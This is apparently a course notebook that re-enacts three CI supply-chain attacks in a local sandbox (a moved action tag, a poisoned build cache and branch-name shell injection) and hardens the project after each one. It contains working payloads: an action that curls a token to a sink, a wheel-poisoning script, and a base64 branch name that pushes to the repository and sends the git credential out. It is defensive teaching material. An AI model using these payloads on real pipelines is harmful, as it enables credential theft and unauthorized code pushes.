# %% [markdown]
# # Week 2 · Three attacks that really run
#
# > In December 2024 two pull requests to Ultralytics carried shell code in the *name of their branch*. It poisoned a cache
# > that the release restored. Versions 8.3.41 and 8.3.42 came out of the right workflow, with attestations.
# > [V: PyPI, attack analysis; the details S]
#
# **You will** (90 min: 16 reading, 74 doing)
# - steal a secret through a tag that moved, pin it, and steal the secret again one level deeper
# - poison a cache, and verify a bad wheel with clients that are right to accept it
# - push to a repository you have no right to, with the name of a branch
# - stop each of them with one change, and say which check did it
#
# **Before:** `02_anatomy`. **Lab:** `labs/02_hardening.ipynb`

# %% tags=["parameters"]
seed = 1

# %%
import re
import shutil

import chainlab
import pandas as pd
from chainlab.ci.copies import working_copy

pd.set_option("display.width", 140, "display.max_columns", None, "display.max_colwidth", None)
lab = chainlab.open("02_attacks", seed=seed)
lab.ci.sandbox.require()  # no wall around the jobs, no payloads
mirror, cache = lab.ci.platform.mirror, lab.ci.platform.cache
mirror.reset()
_ = cache.delete("acme/triage-model")

# %% [markdown]
# `sandbox.require()` stops here on a machine where nothing would keep a payload in. The payloads read *fake* secrets, and
# send them to a *sink*: a small server on this machine, opened by this notebook. Jobs reach it only when we name its port. Attackers and victims are fictional. You keep the promise of week 0:
# none of this leaves this machine, and none of it is tried on anybody else's.
#
# Each attack goes the same way: what happened, the entry, the payload, the run, **the sink or the registry**, one
# defence, the same attack again. Logs prove nothing here. A thief writes the log, too.

# %%
def project_of(kind="weak"):
    """acme's repository, with its files as they are or with the hardened workflows."""
    folder = working_copy(lab.data / "projects", lab.path / "triage-model", kind)
    return lab.ci.project("acme/triage-model", folder, lab.data / "projects/settings/triage-model.toml")


def edit(project, name, *changes):
    """acme changes a workflow: pairs of old and new text."""
    file = project.folder / ".github/workflows" / name
    for old, new in changes:
        assert old in file.read_text(), f"{name} has no {old!r}"
        file.write_text(file.read_text().replace(old, new))
    return project.commit(f"change {name}")

# %% [markdown]
# ## Attack 1: the tag moves
# **What happened.** March 2025: whoever held a token of `tj-actions` pointed every tag of `changed-files` at one commit,
# which printed the secrets of the run into its log. [V: CVE-2025-30066; how: S]
#
# **The entry.** `ci.yml` calls `acme/changed-files@v3`, and its job has `HUB_TOKEN` in `env:`. (To save time, three
# commands that install and test become `true`. Nothing else is changed.)

# %%
QUICK = [(command, "true") for command in (
    "python -m pip download --quiet --no-deps --dest .wheels acme-cells acme-quantise",
    "python -m pytest -q")]
acme = project_of()
file = acme.folder / ".github/workflows/ci.yml"
file.write_text(re.sub(r"(?m)^ *uv pip .*$", "          true", file.read_text()))
edit(acme, "ci.yml", *QUICK)
for line in file.read_text().splitlines():
    if "uses:" in line or "HUB_TOKEN" in line:
        print(line.strip())

# %% [markdown]
# **The payload.** A commit in the action's repository, and the tag on it. The thief has the maintainer's token, and no
# rights at all in `acme/triage-model`. Its three lines print the token, print it spelled differently, and send it off.

# %%
def thief(name, sink):
    """An action that takes what it finds."""
    return {"action.yml": f"""
name: {name}
description: Does what it says, it says.
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        echo "token:    $HUB_TOKEN"
        echo "checksum: $(printf %s "$HUB_TOKEN" | base64 | base64)"
        curl --silent --data "$HUB_TOKEN" {sink.url}
""".encode()}

# %%
sink = lab.sink()
promised = mirror.resolve("acme/changed-files@v3").commit
moved = mirror.move_tag("acme/changed-files", "v3", thief("changed-files", sink))
run = acme.run("push", ports=[sink.port])
print("run:   ", run.result)
print("sink:  ", sink.text)
print("v3 ran:", "what it promised" if run.actions["acme/changed-files@v3"] == promised else "something else")

# %% [markdown]
# The run is green, no file of ours changed, and the token is in the sink. The host noted which commit `v3` was. The
# log, which anybody may read where a repository is public, has this:

# %%
import base64

log = dict(re.findall(r"(?m)^(token|checksum): +(\S+)", run.log))
print(log)
print(base64.b64decode(base64.b64decode(log["checksum"])).decode())

# %% [markdown]
# The platform hides a secret as it is spelled, and no other way. The sink was not even needed: in March 2025 the log
# *was* the way out. [S]
#
# **One defence: name the commit.** We pin that one line to what `v3` meant before it moved. (Not to what it means now!
# Whoever pins on the day of the attack pins the attack.) The tag `v3.0.0` was not moved; in real life you would read
# the commit.

# %%
good = mirror.resolve("acme/changed-files@v3.0.0").commit
edit(acme, "ci.yml", ("acme/changed-files@v3", f"acme/changed-files@{good}  # v3.0.0"))
sink = lab.sink()
run = acme.run("push", ports=[sink.port])
print("run:", run.result, "| sink:", sink.text or "nothing", "| as pinned:", good in run.actions.values())

# %% [markdown]
# The attack failed, and the check that stopped it is one of the simplest: a commit id *is* a hash of the content. The
# tag still points to the thief's commit. Nobody asked for the tag.
#
# ### One level deeper
# Three days before, `reviewdog/action-setup@v1` had moved. Other actions called it inside, and their users were hit
# "regardless of version or pinning method". [V: CVE-2025-30154] So we pin *all* that `ci.yml` names, by what it means
# now, and the thief, who has another token, moves `acme/pip-cache@v1`. Our file does not contain that name.

# %%
text = file.read_text()
for reference in set(re.findall(r"uses: (\w[\w./-]+@[\w.]+)", text)):
    text = text.replace(reference, reference.split("@")[0] + "@" + mirror.resolve(reference).commit)
file.write_text(text)
acme.commit("pin all")
sink = lab.sink()
mirror.move_tag("acme/pip-cache", "v1", thief("pip-cache", sink))
run = acme.run("push", ports=[sink.port])
print("pip-cache in our file:", "pip-cache" in file.read_text(), "| sink:", sink.text)

# %% [markdown]
# Every line of `ci.yml` is pinned, every pin held, and the token is gone. Who named the thief?

# %%
def tree(folder):
    """Every action that ci.yml reaches: how deep, named by whom, and by what kind of name."""
    text = (folder / ".github/workflows/ci.yml").read_text()
    local = lambda path: (folder / path).read_text() if (folder / path).exists() else None
    found = mirror.closure({"ci.yml": text}, read=local)
    return pd.DataFrame([{"depth": a.depth, "action": a.name, "by": "commit" if a.pinned else a.ref,
                          "in": a.file.partition("@")[0]} for a in found]).set_index("depth")


before = tree(acme.folder)
before

# %% [markdown]
# At depth 0, four commits, and a branch `main` that our *own* action `.github/actions/summary` names: ours to pin. At depth
# 1, two promises in a file that is not ours. What can you do about those?
#
# 1. **Do without.** Our hardened `ci.yml` uses no `setup-ml-python`: the runner has a Python.
# 2. Use an action whose author pins too, and *check the whole tree* whenever you move the pin.
# 3. Copy it: a commit of your own, with the nested names pinned, that you must now keep up to date.
# 4. **Leave it nothing to steal.** The second line of defence, and the better one: had `HUB_TOKEN` stood in the `env:` of
#    the one step that needs it, and the job's token been `contents: read`, the thief would have found no more than
#    the guest of `02_anatomy` in its last column.
#
# (A policy of the platform can *require* commit pins, and block actions by name. [V: changelog, 15 August 2025] Try what
# it says of nested ones before you count on it.) We take the first, and the same attack again:

# %%
text = re.sub(r" +- uses: acme/setup-ml-python.*\n +with:\n.*\n", "", file.read_text())
file.write_text(text)
summary = acme.folder / ".github/actions/summary/action.yml"
metrics = mirror.resolve("northwind-ml/post-metrics@main").commit
summary.write_text(summary.read_text().replace("post-metrics@main", f"post-metrics@{metrics}"))
acme.commit("do without")
sink = lab.sink()
run = acme.run("push", ports=[sink.port])
print("run:", run.result, "| sink:", sink.text or "nothing", "| named by:", set(tree(acme.folder)["by"]))

# %% tags=["check"]
assert base64.b64decode(base64.b64decode(log["checksum"])).decode().startswith("FAKE-") and log["token"] == "***"
assert list(before["by"]) == ["commit"] * 4 + ["v5", "v1", "main"]  # the text counts them
assert moved != promised == good and run.result == "success" and not sink.received
assert "acme/pip-cache" not in run.log and "setup-ml-python" not in file.read_text()

# %% [markdown]
# ## Attack 2: a good builder, a bad wheel
# **What happened.** TanStack, May 2026: a pull request's run saved a poisoned cache under `main`'s key; a release
# restored it; 84 bad versions verified. [V: TanStack post-mortem] Ultralytics, the same in 2024. [V: PyPI]
#
# **Which platform.** Until 26 June 2026 a run of `pull_request_target` could write the default branch's cache. Since
# then it only reads it. [V: changelog] We attack the platform *as it was*, and say so in the call:
# `cache_rule="before-2026-06-26"`.
#
# **The entry.** `bench.yml` runs on `pull_request_target`, checks out the change, executes its `tests/size.py` and keeps
# `.wheels`. `release.yml` restores `.wheels`. They share the beginning of a key: `wheels-`. Before the attack acme has
# followed one piece of advice: no stored token, but trusted publishing from the environment `release`. So the wheel will carry
# an attestation.

# %%
mirror.reset()  # the owners have their repositories back
acme = project_of()
init = acme.folder / "src/triage_model/__init__.py"
init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
edit(acme, "release.yml",
     ("        with:\n          password: ${{ secrets.PYPI_TOKEN }}\n", ""),
     ("    needs: build\n", "    needs: build\n    environment: release\n"))
for name in ("bench.yml", "release.yml"):
    text = (acme.folder / ".github/workflows" / name).read_text()
    print(name, "|", *re.findall(r"(?m)^ +(pull_request_target:|tags: .*|restore-keys: .*|path: \.wheels)", text))

# %% [markdown]
# **The payload.** Mallory replaces the file that measures sizes. Hers takes a wheel from the kept ones and writes a
# "newer version" of it beside it, with one more line. The line leaves a marker, in whatever project trains with it.
# (The real one stole tokens. Ours writes "left by a cache".)

# %%
POISON = '''
import zipfile
from pathlib import Path

good = zipfile.ZipFile(next(Path(".wheels").glob("acme_quantise-1.0.3-*.whl")))
with zipfile.ZipFile(".wheels/acme_quantise-1.0.9-py3-none-any.whl", "w") as bad:
    for name in good.namelist():
        data = good.read(name).replace(b"1.0.3", b"1.0.9")
        if name == "acme_quantise/__init__.py":
            data += b"import pathlib; pathlib.Path('src/triage_model/marker.txt').write_text('left by a cache')"
        bad.writestr(name.replace("1.0.3", "1.0.9"), data)
print("456 lines")
'''

# %%
def propose(project, files, branch="typo"):
    """Mallory's pull request, from her fork."""
    shutil.rmtree(lab.path / "fork", ignore_errors=True)
    fork = shutil.copytree(project.folder, lab.path / "fork")
    for path, text in files.items():
        (fork / path).write_text(text)
    return project.pull_request(owner="mallory", branch=branch, folder=fork, title="A typo")


change = propose(acme, {"tests/size.py": POISON})
bench = acme.run("pull_request_target", pull=change, workflow="bench.yml", cache_rule="before-2026-06-26")
print("run:", bench.result, "| as pull request it says:", bench.summary.strip())
for entry in cache.entries("acme/triage-model"):
    key = entry.key.replace(str(bench.id), "<its run>")
    print("saved by it:", f"runs/{bench.id}/" in entry.who, "| in the scope:", entry.scope, "| key:", key)

# %% [markdown]
# A green run that reports a plausible number. An entry in `main`'s scope, by a stranger. She closes her pull request; no
# line of hers is ever merged. Then somebody at acme tags a release. (This is the long run of this notebook.) Look into the
# registry: what is in the wheel?

# %%
import zipfile

from chainlab.digests import Digest

acme.tag("v1.4.1")
release = acme.run("push", ref="refs/tags/v1.4.1", job="publish", approve=["release"])
wheel = "triage_model-1.4.1-py3-none-any.whl"
stored = lab.registry.index.file("triage-model", wheel)
print("run:", release.result, "| in the index:", stored.filename)

ours = {path.name for path in init.parent.glob("*.py")}
with zipfile.ZipFile(lab.registry.index.path(stored)) as content:
    for name in content.namelist():
        if name.startswith("triage_model/"):
            known = name.partition("/")[2] in ours
            print(f"{name:26}", "" if known else f"in no commit: {content.read(name).decode()!r}")

# %% [markdown]
# The marker is in the published wheel. The file is in no commit of acme's and in none of Mallory's.
#
# Now you are the user. Two pieces of evidence come with this wheel: the attestation of the workflow, and the
# provenance of the platform. You have the root, and you know whom to expect. Predict both verdicts.

# %%
import json

from pypi_attestations import Provenance
from sigstore.models import Bundle
from sigstore.verify import Verifier, policy

GIT = "https://git.chainlab.localhost"
(bundle,) = Provenance.model_validate(lab.registry.index.provenance(stored)).attestation_bundles
items = lab.registry.evidence.document(stored.digest)["attached"]
item = [i for i in items if i["source"].endswith(f"/runs/{release.id}/jobs/build")][0]
platform = Bundle.from_json(lab.registry.evidence.read(stored.digest, Digest.parse(item["digest"])))


def verified(bundle, workflow, digest):
    """The statement, if its signer is that workflow and its subject that digest; raises otherwise."""
    expected = policy.Identity(identity=f"{GIT}/{workflow}", issuer=lab.trust.ci_issuer)
    statement = json.loads(Verifier(trusted_root=lab.trust.config.trusted_root).verify_dsse(bundle, expected)[1])
    assert any(s["digest"] == {"sha256": digest.value.hex()} for s in statement["subject"]), "another file"
    return statement

# %%
received = Digest.of_file(lab.registry.index.path(stored))
publish = verified(bundle.attestations[0].to_bundle(), "acme/triage-model/.github/workflows/release.yml@refs/tags/v1.4.1", received)
provenance = verified(platform, "chainlab/ci-host/.github/workflows/provenance.yml@refs/heads/main", received)
definition = provenance["predicate"]["buildDefinition"]
print("attestation valid:", bool(publish), "|", "/".join(publish["predicateType"].split("/")[-2:]))
print("provenance valid: ", bool(provenance), "|", "/".join(provenance["predicateType"].split("/")[-2:]))
print("source:           ", definition["resolvedDependencies"][0]["uri"].removeprefix(f"git+{GIT}/"))
source = definition["resolvedDependencies"][0]["digest"]["gitCommit"]
print("right commit:     ", source == acme.head("refs/tags/v1.4.1"))
print("caused by:        ", definition["internalParameters"])

# %% [markdown]
# **Valid. Twice. On a bad wheel.** The clients are not fooled, and nothing is forged. Go through the promises:
#
# | promise | made by | kept? |
# |---|---|---|
# | these bytes were published by that workflow, at that tag, in that environment | the attestation | yes |
# | this job ran at that commit, for that event, with those actions | the provenance | yes |
# | what the index served to the job is listed | the provenance | yes |
# | **and nothing else went in** | **nobody** | – |
#
# That last one is what you wanted. SLSA asks a platform for it at Build **L3**, where one build may not poison another's
# cache. [V: SLSA v1.2] Our host claims L1, npm's provenance in May was about L2, and slsa.dev wrote that a policy on the
# expected builder "would have passed". [V: slsa.dev, 15 May 2026]
#
# Does the evidence say *anything*? Look at what is missing, and at who saw it:

# %%
listed = [d["name"] for d in definition["resolvedDependencies"] if d["uri"].startswith("pkg:")]
print("in the provenance:", "numpy and others," if any(n.startswith("numpy") for n in listed) else "",
      "acme-quantise:", [n for n in listed if n.startswith("acme_quantise")] or "none")
(restored,) = [e.data for e in lab.events("dev.chainlab.cache.restored") if f"runs/{release.id}/" in e.data["who"]]
print("the host's event: ", "an entry restored from", restored["scope"])
(saved,) = [e.data for e in lab.events("dev.chainlab.cache.saved") if e.data["key"] == restored["key"]]
origin = next(run for run in lab.ci.runs() if f"runs/{run.id}/" in saved["who"])
print("and who saved it: ", origin.workflow.rpartition("/")[2], "on", origin.event, "for", origin.actor)

# %% [markdown]
# `triage-model` cannot be trained without `acme-quantise`, and the provenance lists none: the index served none, since
# `.wheels` had one already. What was *installed* came by a way that nobody lists. The host's events know the whole
# story; no field of a certificate does. Two checks would have told the user:
#
# - **rebuild** elsewhere, with an empty cache, and compare digests: we do it in a moment;
# - **compare the wheel with the commit**: one file too many. It works as long as the payload leaves files.
#
# ### Defence by the platform
# The same pull request, under the rule of today. And once more as `pull_request`, for which Mallory brings her own
# workflow file: she may, since that event runs the file of the change.

# %%
own = (acme.folder / ".github/workflows/bench.yml").read_text().replace("pull_request_target:", "pull_request:")
second = propose(acme, {"tests/size.py": POISON, ".github/workflows/bench.yml": own})
before_june = {"workflow": "bench.yml", "cache_rule": "before-2026-06-26"}
tries = {
    "pull_request_target, now": acme.run("pull_request_target", pull=change, workflow="bench.yml"),
    "pull_request, before": acme.run("pull_request", pull=second, **before_june),
}
for name, run in tries.items():
    scopes = [e.scope for e in cache.entries("acme/triage-model") if f"runs/{run.id}/" in e.who]
    print(f"{name:26} {run.result} | saved in:", re.sub(r"\d+", "N", "".join(scopes)) or "nowhere")

# %% [markdown]
# Now the token for the cache may only read, and the save is refused: the *platform* checks the scope that a job's
# credential may write. As `pull_request` the save works, into a scope that no release ever reads: a run searches its own
# ref, its base and the default branch. That was so before June 2026 as well.
#
# Is the matter closed, then? A run by a trusted event still writes `main`'s cache; if *that* run can be made to execute
# a stranger's code, the way is open again. And the rule is one platform's, for its own cache. So do not rely on it alone:
#
# ### Defence in the workflow
# The hardened release uses no cache, and installs by hash. The poisoned entry is still there.

# %%
there = [e for e in cache.entries("acme/triage-model") if e.key == saved["key"]]
acme = project_of("hardened")
init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
acme.commit("1.4.1, hardened")
acme.tag("v1.4.1")
rebuilt = acme.run("push", ref="refs/tags/v1.4.1", job="build")
restores = [e for e in lab.events("dev.chainlab.cache.restored") if f"runs/{rebuilt.id}/" in e.data["who"]]
models = {run.artifacts["model"]["triage.onnx"] for run in (release, rebuilt)}
print("run:", rebuilt.result, "| poison still in the cache:", bool(there), "| restored:", restores or "nothing")
print("same wheel as published:", rebuilt.artifacts["dist"][wheel] == str(received))
print("same model:", len(models) == 1)

# %% tags=["check"]
assert bench.result == release.result == rebuilt.result == "success"
assert origin.event == "pull_request_target" and origin.actor == "mallory"
assert rebuilt.artifacts["dist"][wheel] != str(received) and there
today = tries["pull_request_target, now"]
assert not any(f"runs/{today.id}/" in e.who for e in cache.entries("acme/triage-model"))

# %% [markdown]
# The poison lies where it lay, and nobody asks for it. That is the rebuild, too: same source, same version,
# **another digest**, so one of the two wheels is not what the source says. The models agree; here the poison had not
# touched them. (It could have: it ran in the training process.)
#
# Two things stopped it, independently. No step restores a cache. And had one done so, `--require-hashes` would have
# refused a wheel that `requirements.lock` does not name. Which of them would you drop, if caching saved you ten minutes a
# run? Exercise 2.5 is that question.
#
# ## Attack 3: the name of a branch
# **What happened.** Ultralytics again, the first step: the branch's name was shell code, and a workflow on
# `pull_request_target` pasted it into a script. [V: PyPI; details S] **The entry**, in `label.yml`:
#
#     echo "BRANCH=${{ github.head_ref }}" >> $GITHUB_ENV
#
# **The payload.** A name may hold no space, no colon and no backslash. `${IFS}` is a space to a shell, and base64 needs no
# colon. What it decodes to uses the credential that `checkout` left in `.git/config`: it *pushes a branch to acme's
# repository*, and sends the credential to the sink. The files of the change hold a corrected typo and nothing else.

# %%
def branch_name(sink, quote):
    """A branch whose name, pasted between such quotes, is a program."""
    push, steal = "git push -q origin +HEAD:refs/heads/mallory-was-here", "git config --list | grep basic"
    code = base64.b64encode(f"{push}; {steal} | curl -s -d @- {sink.url}".encode()).decode()
    return f"x{quote};echo${{IFS}}{code}|base64${{IFS}}-d|sh;true${{IFS}}{quote}"


def strike(project, quote='"', files=None):
    """Open the pull request, let label.yml run, and look for what it left."""
    sink = lab.sink()
    change = propose(project, files or {"README.md": "A typo, corrected.\n"}, branch_name(sink, quote))
    run = project.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
    refs = lab.ci.platform.remote.refs("acme/triage-model")
    pushed = refs.get("refs/heads/mallory-was-here") == change.head.commit
    got = "a credential" if "basic " in sink.text else sink.text or "nothing"
    return {"run": run.result, "sink": got, "branch in acme's repository": pushed}

# %%
mirror.reset()
acme = project_of()
pd.DataFrame({"as it was": strike(acme)}).T

# %% [markdown]
# The stranger's commit is in acme's repository, under a branch of its own. It could have been any branch that is not
# protected. Three settings were needed: a pasted word, `contents: write`, and a credential left on disk. (The token
# itself is dead by now: it ended with its job. The branch stays.)
#
# **"Then quote it."** The line *had* double quotes, and the name brought one. Single quotes, say, in which a shell expands
# nothing:

# %%
edit(acme, "label.yml", ('echo "BRANCH=${{ github.head_ref }}"', "echo 'BRANCH=${{ github.head_ref }}'"))
rows = {"single quotes, old name": strike(acme), "single quotes, new name": strike(acme, quote="'")}
pd.DataFrame(rows).T

# %% [markdown]
# The old name fails: inside single quotes it is a word. The new one brings a single quote. There is no quote that a name
# cannot bring, for the paste happens *before* the shell reads any quotes.
#
# **One defence: do not paste, pass.** The value goes into the environment; the script names a variable. The shell expands
# it and does not parse the result again.

# %%
edit(acme, "label.yml",
     ("        run: |\n          echo 'BRANCH=${{ github.head_ref }}' >> $GITHUB_ENV\n",
      "        env:\n          BRANCH: ${{ github.head_ref }}\n"
      "          TITLE: ${{ github.event.pull_request.title }}\n"
      '        run: |\n          echo "$BRANCH"\n'),
     ('"${{ github.event.pull_request.title }}"', '"$TITLE"'))
rows = {f"passed, name with {quote}": strike(acme, quote) for quote in ('"', "'")}
pd.DataFrame(rows).T

# %% [markdown]
# Both names are inert. No list of bad characters, no filter. (We also stopped writing into `$GITHUB_ENV`: what a stranger
# says there becomes the environment of every later step.)
#
# ### The other door
# `label.yml` still checks out the change and runs `tests/size.py` from it, under `contents: write`. Mallory does not need
# the name of the branch. With the injection closed, and an ordinary file:

# %%
OPEN = "import subprocess; subprocess.run('git push -q origin +HEAD:refs/heads/mallory-was-here'.split())\n"
rows = {"injection closed, her file runs": strike(acme, files={"tests/size.py": OPEN})}
edit(acme, "label.yml", ("actions/checkout@v4", "actions/checkout@v7"))
rows["and checkout v7"] = strike(acme, files={"tests/size.py": OPEN})
pd.DataFrame(rows).T

# %% tags=["check"]
assert rows["injection closed, her file runs"]["branch in acme's repository"] is True
assert rows["and checkout v7"] == {"run": "failure", "sink": "nothing", "branch in acme's repository": False}

# %% [markdown]
# The first row: one door closed, the other open. The second: `actions/checkout` v7.0.0, of 18 June 2026, refuses to check
# out a fork's change under `pull_request_target`, unless `allow-unsafe-pr-checkout: true` says so. [V: release notes]
# The job fails, and nothing is executed. A plain `git fetch` in a script is outside that protection.
#
# The hardened set goes further and uses `pull_request` with `contents: read`: the label is not set by a robot then. A
# control costs something; say what.
#
# ## Pin *and* update
# The two halves of this notebook pull in opposite directions. Attack 1 says: name the commit, so that nothing changes
# behind your back. Attack 3 ends with a protection that came as a *change*. Who has it?
#
# | you wrote | a moved tag can hurt you | you get v7's protection |
# |---|---|---|
# | `actions/checkout@v7` | yes | yes |
# | `actions/checkout@<commit of v7.0.0>` | no | yes |
# | `actions/checkout@v4` | yes | no; perhaps, if the backport that was announced for July 2026 came [S, not confirmed] |
# | `actions/checkout@<commit of v4.2.2>` | no | **no, whatever is backported** |
#
# A pin is a promise to yourself that you will look again. So: pin every level, keep the version in a comment, let a tool
# propose each new commit, *read* the change, and give fresh releases a few days before you take them. `chainlab ci pin`
# does the writing; in exercise 2.3 you write it first.
#
# ## What stopped what
# | attack | why it worked | stopped by | the check that says no |
# |---|---|---|---|
# | moved tag | a name in somebody else's hands | commit pins, at every level | the commit is the hash of its content |
# | | a secret in the whole job's `env:` | least privilege | there is nothing to steal |
# | poisoned cache | a stranger's run writes what a release reads | today's cache rule | the credential's scope |
# | | the release reads what others wrote | no cache, hashes | the lock file's digest |
# | branch name | words become code | pass, do not paste | the shell, which parses once |
# | checked-out change | a stranger's file runs with the project's token | `pull_request`; checkout v7 | event and origin |
#
# No signature stands in the right-hand column. Evidence told you afterwards *whose* workflow it was, and an independent
# rebuild told you that something was wrong. Preventing was the business of rights.
#
# **What is simplified here.** The payloads are short and their tokens fake. The real thieves read secrets and the identity
# token from the runner's memory [S; for TanStack V], so that masking and `env:` made no difference. The actions are our
# own. The runs of attack 1 were shortened, as said, and the release of attack 2 ran without its job `notes`.
#
# **You can now**
# - say who could read which secret, from `env:`, `permissions:` and who else runs in the job
# - pin through every nested level, and name what a pin costs
# - give a job so little that a thief in it finds nothing
# - split a cache by who writes and who reads, and say what changed on 26 June 2026 and what did not
# - make a stranger's words inert, and find the file that still runs
# - read "valid" as the answer to a question, and name the question that nobody answered
#
# **Exit questions.** 1. A release is pinned, has no cache and no stored token. What could a bad *dependency in
# `requirements.lock`* still do, and in which job? 2. Which one of the six rows above would you do first in a repository
# with 40 workflows, and what would you measure to know that it is done?
#
# **Lab:** `labs/02_hardening.ipynb`. There you write the controls, and then others break them.
